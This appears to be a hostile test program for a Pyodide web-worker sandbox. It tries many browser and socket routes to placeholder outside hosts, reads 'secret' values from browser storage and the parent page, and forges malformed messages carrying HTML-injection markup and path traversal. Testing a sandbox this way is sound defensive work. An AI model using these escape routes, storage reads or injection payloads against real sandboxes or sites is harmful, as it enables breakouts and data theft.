"""A hostile server program. It tries every way out of its worker, forges the worker's messages, and then says what it
could read. The test puts hosts and ports in the place of the words in capitals."""

import json
import socket
import urllib.request
from urllib.parse import urlsplit
from wsgiref.simple_server import make_server

import js
from pyodide.code import run_js
from pyodide.ffi import create_proxy, run_sync, to_js
from pyodide.http import open_url, pyfetch

PLACES = ["http://OUTSIDE-HOST/AS/", "http://SITE-HOST/AS/"]


def objects(value):
    return to_js(value, dict_converter=js.Object.fromEntries)


def socket_url(url):
    return url.replace("http", "ws")


def xhr(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url)
    request.send()


def head(url):
    return f"GET {urlsplit(url).path} HTTP/1.0\r\n\r\n".encode()


def native(name, *arguments):
    """A function of the browser's own, past what stands in its place."""
    return getattr(js.WorkerGlobalScope.prototype, name).call(js.self, *arguments)


OPAQUE = objects({"mode": "no-cors"})

# Ways of the browser: without a jail they get out.
WAYS = {
    "native-fetch": lambda url: native("fetch", url, OPAQUE),
    "native-import-scripts": lambda url: native("importScripts", url),
    "xhr": xhr,
    "websocket": lambda url: js.WebSocket.new(socket_url(url)),
    "event-source": lambda url: js.EventSource.new(url),
    "open-url": lambda url: open_url(url),
    "font-face": lambda url: js.FontFace.new("outside", f'url("{url}")').load(),
    "eval": lambda url: js.eval(f'new XMLHttpRequest(); importScripts; import("{url}")'),
    "function": lambda url: js.Function.new(f'return import("{url}")')(),
    "run-js": lambda url: run_js(f'import("{url}")'),
    "timeout-of-text": lambda url: js.setTimeout(f'import("{url}")', 0),
}

# The same from a worker of the worker, which has an event loop of its own. It says what it could read.
WORKER = """
self.onerror = () => true;
const blob = (source) => URL.createObjectURL(new Blob([source]));
const WAYS = {
    "worker-fetch": (url) => fetch(url, { mode: "no-cors" }),
    "worker-xhr": (url) => { const request = new XMLHttpRequest(); request.open("GET", url); request.send(); },
    "worker-websocket": (url) => new WebSocket(url.replace("http", "ws")),
    "worker-event-source": (url) => new EventSource(url),
    "worker-import-scripts": (url) => importScripts(url),
    "worker-import": (url) => import(url),
    "worker-nested": (url) => new Worker(blob(`fetch("${url}", { mode: "no-cors" })`)),
};
const READS = {
    "cache-storage": async () => (await caches.match("http://SITE-HOST/secret")).text(),
    "file-system": async () => {
        const root = await navigator.storage.getDirectory();
        return (await (await root.getFileHandle("secret")).getFile()).text();
    },
    "locks": async () => (await navigator.locks.query()).held.map(({ name }) => name).join(),
    // Who answers has done so long before two thousand messages of two other channels have gone to and fro.
    "broadcast-channel": () => new Promise((resolve) => {
        const channel = new BroadcastChannel("secret");
        const [echo, own] = [new BroadcastChannel("own"), new BroadcastChannel("own")];
        channel.onmessage = ({ data }) => resolve(data);
        channel.postMessage("?");
        let left = 2000;
        own.onmessage = () => (--left > 0 ? echo.postMessage("") : resolve("nobody answers"));
        echo.postMessage("");
    }),
};
const attempt = async (way) => {
    try {
        return String(await way());
    } catch (error) {
        return `threw ${error?.name ?? error}`;
    }
};
onmessage = async ({ data }) => {
    for (const place of data) {
        for (const [name, way] of Object.entries(WAYS)) void attempt(() => way(place + name));
    }
    const read = {};
    for (const [name, way] of Object.entries(READS)) read[name] = await attempt(way);
    postMessage(JSON.stringify({ ways: Object.keys(WAYS), read }));
};
"""


def try_in_worker():
    started = js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([WORKER]))))

    def hear(resolve, reject):
        started.onmessage = create_proxy(lambda event: resolve(event.data))
        started.postMessage(to_js(PLACES))

    return json.loads(run_sync(js.Promise.new(create_proxy(hear))))


# Ways of Python, which lead into the machine's own network, jailed or not.
MACHINE_WAYS = {
    "fetch": lambda url: js.fetch(url, OPAQUE),
    # It runs up to where it waits for the answer.
    "pyfetch": lambda url: pyfetch(url).send(None),
    "urllib": lambda url: urllib.request.urlopen(url, timeout=5).read(),
    "socket": lambda url: socket.create_connection(("127.0.0.1", urlsplit(url).port), 5).sendall(head(url)),
    "socket-by-name": lambda url: socket.create_connection((urlsplit(url).hostname, urlsplit(url).port), 5),
}

PORT_WAYS = {
    "webtransport": lambda: js.WebTransport.new("https://outside.test:PORT-FOR-webtransport/"),
}


def attempt(way, *arguments):
    try:
        return str(way(*arguments))
    except BaseException as error:
        return f"threw {type(error).__name__}: {error}"[:200]


def indexed_db():
    def opened(resolve, reject):
        asked = js.indexedDB.open("secret")
        asked.onsuccess = create_proxy(lambda _: resolve(asked.result))
        asked.onerror = create_proxy(lambda _: reject(asked.error))

    database = run_sync(js.Promise.new(create_proxy(opened)))

    def read(resolve, reject):
        asked = database.transaction("secret").objectStore("secret").get(1)
        asked.onsuccess = create_proxy(lambda _: resolve(asked.result))
        asked.onerror = create_proxy(lambda _: reject(asked.error))

    return run_sync(js.Promise.new(create_proxy(read)))


READS = {
    "indexed-db": indexed_db,
    "local-storage": lambda: js.localStorage.getItem("secret"),
    "document": lambda: js.document.title,
    "parent": lambda: js.parent.document.title,
}

HOSTILE_NAME = '<img src="http://SITE-HOST/AS/markup-in-a-row">'
FLOW = 7_000_000_000
ENDPOINT = {"address": "127.0.0.1", "port": 8888}

# Messages of the worker, of the jail and of the tabs, in wrong shapes; and in right shapes with markup in them.
FORGED = [
    None, 5, "jail-up", "tab:up", [], {},
    {"kind": "booted", "extra": 1}, {"kind": "stage", "stage": 1, "done": "x"}, {"kind": "exit", "code": "0"},
    {"kind": "exit", "code": 1.5}, {"kind": "exit"}, {"kind": "failed", "message": {}}, {"kind": "failed"},
    {"kind": "output", "output": "text"}, {"kind": "output", "output": {"stream": "stdin", "text": "x"}},
    {"kind": "output", "output": {"stream": "stdout", "text": 5}}, {"kind": "tap", "events": None},
    {"kind": "tap", "events": [{}]}, {"kind": "tap", "events": [{"kind": "data", "flow": FLOW, "at": 0, "bytes": "x"}]},
    {"kind": "tap", "events": [{"kind": "open", "flow": FLOW, "at": 0, "client": {"port": 1}, "server": 5}]},
    {"kind": "constructor"}, {"kind": "__proto__"}, {"kind": "toString"},
    {"kind": "want", "name": "../index.html"}, {"kind": "spawn", "id": 1, "command": "python", "args": []},
    {"kind": "rows", "rows": [{"summary": HOSTILE_NAME}]}, {"kind": "port", "port": 8888, "type": "close"},
    {"kind": "output", "output": {"stream": "stdout", "text": HOSTILE_NAME + "\n"}},
]


def forge():
    for message in FORGED:
        js.postMessage(objects(message))
    text = f"GET /{HOSTILE_NAME} HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\n\r\n".encode()
    client = {"address": "127.0.0.1", "port": 40000}
    events = [
        {"kind": "open", "flow": FLOW, "at": 0, "client": client, "server": ENDPOINT},
        {"kind": "data", "flow": FLOW, "at": 1, "direction": "client-to-server", "bytes": text},
    ]
    js.postMessage(objects({"kind": "tap", "events": events}))


def app(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"still here"]


def main():
    worker = try_in_worker()
    for place in PLACES:
        for name, way in {**WAYS, **MACHINE_WAYS}.items():
            attempt(way, place + name)
    for way in PORT_WAYS.values():
        attempt(way)
    forge()
    report = {
        "ways": [*WAYS, *worker["ways"]],
        "ports": list(PORT_WAYS),
        "machine": list(MACHINE_WAYS),
        "read": {name: attempt(way) for name, way in READS.items()} | worker["read"],
    }
    print("REPORT " + json.dumps(report))
    make_server("", 8888, app).serve_forever()


main()
